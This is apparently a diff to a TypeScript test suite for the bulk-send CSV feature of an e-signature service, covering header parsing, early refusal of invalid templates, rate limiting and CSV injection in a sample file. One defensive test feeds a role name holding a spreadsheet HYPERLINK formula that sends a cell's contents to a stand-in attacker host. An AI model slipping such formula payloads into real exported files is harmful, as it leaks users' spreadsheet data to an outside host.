@@ -1,4 +1,4 @@
-import { API_MESSAGES } from '@signflow/contract/api-errors';
+import { API_MESSAGES, fillTemplate } from '@signflow/contract/api-errors';
 import { MAX_BULK_SEND_BYTES } from '@signflow/contract/bulk-sends';
 import type { TemplateRole } from '@signflow/contract/templates';
 import { eq } from 'drizzle-orm';
@@ -12,6 +12,7 @@ import { createSignerLinks } from '../../../src/modules/signing/signer-links';
 import { createDiskStorage } from '../../../src/platform/storage/disk-storage';
 import { csvOf, documentsFrom, freshTag, HEADER, postBulkSend, waitForFinished } from '../../support/bulk-sends';
 import { createDocumentsTestApp, type DocumentsTestApp, owner } from '../../support/documents';
+import { errorAnswer } from '../../support/error-answers';
 import { makeTemplate, saveTemplateFields, senderFilledTemplate, templateField, useOf } from '../../support/templates';
 import { TEST_JWT_SECRET } from '../../support/test-app';
 
@@ -126,8 +127,7 @@ describe('CSV files at the edges', () => {
     expect(response.json()).toMatchObject({ rows: 2 });
   });
 
-  // FINDING (fails today): an empty header cell is an 'Unknown column' with no name.
-  it.fails('takes a header with a trailing empty cell, as spreadsheets save a sheet with an empty column', async () => {
+  it('takes a header with a trailing empty cell, as spreadsheets save a sheet with an empty column', async () => {
     const who = await owner(t, 'ENTERPRISE');
     const made = await senderFilledTemplate(t, who);
     const tag = freshTag();
@@ -152,8 +152,7 @@ describe('the sample file', () => {
     expect(response.statusCode, response.body).toBe(202);
   });
 
-  // FINDING (fails today): role names and labels go into the sample file as they are.
-  it.fails('starts no cell with a formula sign a spreadsheet would run (CSV injection)', async () => {
+  it('starts no cell with a formula sign a spreadsheet would run (CSV injection)', async () => {
     const who = await owner(t, 'ENTERPRISE');
     const roles = [
       { name: '=HYPERLINK("http://evil.example/?"&A2,"Open")', level: 1 },
@@ -174,8 +173,7 @@ describe('the sample file', () => {
 });
 
 describe('a file sent for signing', () => {
-  // FINDING (fails today): queued (202), then every row fails in the job.
-  it.fails('is refused at once when the template has a role without a field, which Invite Sign would refuse each row for', async () => {
+  it('is refused at once when the template has a role without a field, which Invite Sign would refuse each row for', async () => {
     const who = await owner(t, 'ENTERPRISE');
     const made = await makeTemplate(t, who);
     const [client] = made.roles as [TemplateRole, TemplateRole];
@@ -186,13 +184,12 @@ describe('a file sent for signing', () => {
       (_, n) => `C ${n},c${n}.${tag}@example.com,W ${n},w${n}.${tag}@example.com`,
     ).join('\r\n')}\r\n`;
     const response = await postBulkSend(t, who.token, made.id, file);
-    if (response.statusCode === 202) {
-      const progress = await waitForFinished(who, response.json<{ id: string }>().id);
-      // What happens: queued, then every row fails in the job with the same message.
-      expect(progress).toMatchObject({ created: 0, failed: 50 });
-      expect(progress.errors[0]?.message).toBe('Add a field for W 0 before inviting');
-    }
-    expect(response.statusCode, 'queued a file whose every row must fail').toBe(400);
+    // Not queued to fail row by row in the job: the role is named, as Invite Sign names it.
+    expect(response.json()).toEqual({
+      ...errorAnswer(400, fillTemplate(API_MESSAGES.signersNeedFields, { names: 'Witness' })),
+      template: API_MESSAGES.signersNeedFields,
+      params: { names: 'Witness' },
+    });
   });
 });
 
@@ -229,5 +226,22 @@ describe('the largest file', () => {
     console.log(
       `three 5,000-row files: ${postsMs} ms; another account's GET /v1/templates meanwhile, at worst: ${otherMs} ms (${waits.length} calls)`,
     );
+  });
+});
+
+describe('files posted one after another', () => {
+  it('are taken 30 an hour per account, refused ones too, then 429 with Retry-After; another account is not held', async () => {
+    const who = await owner(t, 'ENTERPRISE');
+    const made = await senderFilledTemplate(t, who);
+    const unknownColumn = 'Nobody\r\nx\r\n';
+    for (let n = 0; n < 30; n += 1) {
+      expect((await postBulkSend(t, who.token, made.template.id, unknownColumn)).statusCode).toBe(400);
+    }
+    const held = await postBulkSend(t, who.token, made.template.id, unknownColumn);
+    expect(held.statusCode).toBe(429);
+    expect(Number(held.headers['retry-after'])).toBeGreaterThan(0);
+    const other = await owner(t, 'ENTERPRISE');
+    const theirs = await senderFilledTemplate(t, other);
+    expect((await postBulkSend(t, other.token, theirs.template.id, unknownColumn)).statusCode).toBe(400);
   });
 });
